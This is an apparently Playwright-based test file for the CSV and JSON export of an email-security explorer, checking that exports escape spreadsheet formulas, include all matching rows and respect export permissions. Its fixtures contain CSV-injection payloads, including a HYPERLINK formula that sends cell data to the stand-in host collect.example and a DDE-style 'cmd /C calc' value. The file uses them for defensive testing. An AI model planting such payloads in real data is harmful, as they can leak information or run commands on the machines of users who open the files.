// Taking rows out as a file.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { message } from "./mail.mjs";
import { explorer, menuItem, settled, total } from "./pages.mjs";
import { check, seen } from "./rig.mjs";

/** Reads CSV as RFC 4180 has it: quotes, doubled quotes, and ends of lines inside of them. */
function csv(text) {
  const rows = [[]];
  let cell = "", quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') cell += text[i++];
    else if (c === '"') quoted = !quoted;
    else if (!quoted && (c === "," || c === "\n")) {
      rows.at(-1).push(cell.replace(/\r$/, ""));
      cell = "";
      if (c === "\n") rows.push([]);
    } else cell += c;
  }
  if (rows.at(-1).length === 0) rows.pop();
  return rows;
}

async function take(page, format) {
  await page.getByRole("button", { name: "Export", exact: true }).click();
  const started = page.waitForEvent("download");
  await menuItem(page, `${format}, columns of the list`).click();
  const file = await started;
  assert.match(file.suggestedFilename(), new RegExp(`^tocsin-emails-[\\d-]+\\.${format.toLowerCase()}$`));
  return readFile(await file.path(), "utf8");
}

const formula = `=HYPERLINK("http://collect.example/?"&A1,"open")`;

check("a spreadsheet finds no formula in the exported file, and every row of the list", async ({ server, session, page }) => {
  await server.import(
    message({ Subject: formula, From: '"+cmd|\' /C calc\'!A0" <sum@export.example>' }),
    message({ Subject: "@SUM(1+1)*cmd", From: "=1+1 <sum@export.example>" }),
    message({ Subject: 'a "quoted", two-part subject', From: "Plain <sum@export.example>" }),
  );
  const q = 'EmailEvents\n| where SenderFromAddress == "sum@export.example"';
  assert.equal(await session.count(q), 3);
  await explorer(page, { q });
  const [head, ...rows] = csv(await take(page, "CSV"));
  assert.deepEqual(head.slice(0, 4), ["Timestamp", "Subject", "RecipientEmailAddress", "SenderFromAddress"]);
  const subjects = rows.map((r) => r[1]).sort();
  assert.deepEqual(subjects, [`'${formula}`, "'@SUM(1+1)*cmd", 'a "quoted", two-part subject'].sort());
  for (const cell of rows.flat()) assert.doesNotMatch(cell, /^\s*[=+\-@\t\r]/, "a cell is a formula");

  // Everything that matches goes into the file, not only what was scrolled to.
  await explorer(page, { last: "30d" });
  const all = csv(await take(page, "CSV"));
  assert.equal(all.length - 1, await total(page));
  assert.ok(all.every((r) => r.length === all[0].length));
});

check("the same as JSON, with the values as they are", async ({ server, session, page }) => {
  await server.import(message({ Subject: formula, From: "Sums <json@export.example>" }));
  const q = 'EmailEvents\n| where SenderFromAddress == "json@export.example"';
  await explorer(page, { q });
  const rows = JSON.parse(await take(page, "JSON"));
  assert.deepEqual(rows.map((r) => [r.Subject, r.SenderFromAddress]), [[formula, "json@export.example"]]);

  await explorer(page, { view: "phish" });
  const phish = JSON.parse(await take(page, "JSON"));
  assert.equal(phish.length, await session.count("EmailEvents", "phish"));
  assert.deepEqual(Object.keys(phish[0]).slice(0, 4), ["Timestamp", "Subject", "RecipientEmailAddress", "SenderFromAddress"]);
});

check("a selection of all that matches is exported as it was frozen", async ({ page }) => {
  await explorer(page, { q: 'EmailEvents\n| where SenderFromDomain == "harbourweekly.example"', last: "30d" });
  const n = await total(page);
  await page.keyboard.press("j");
  await page.keyboard.press("x");
  await page.getByRole("button", { name: /^Select all/ }).click();
  const started = page.waitForEvent("download");
  await page.getByRole("button", { name: "Export as CSV" }).click();
  assert.equal(csv(await readFile(await (await started).path(), "utf8")).length - 1, n);
});

check("whoever may not export is told what it takes", { as: ["Security Reader"] }, async ({ session, page }) => {
  await explorer(page);
  const button = page.getByRole("button", { name: "Export", exact: true });
  assert.equal(await button.getAttribute("aria-disabled"), "true");
  assert.match(await button.getAttribute("title"), /^Needs the permission explorer\.export/);
  await button.click({ force: true });
  assert.equal(await menuItem(page, "CSV, columns of the list").count(), 0);
  // The button only says what the server does.
  const answer = await session.context.request.get("/api/v1/explorer/export?view=all&q=EmailEvents&format=csv");
  assert.equal(answer.status(), 403);
  assert.match((await answer.json()).detail, /explorer\.export/);
  await settled(page);
  await seen(button);
});
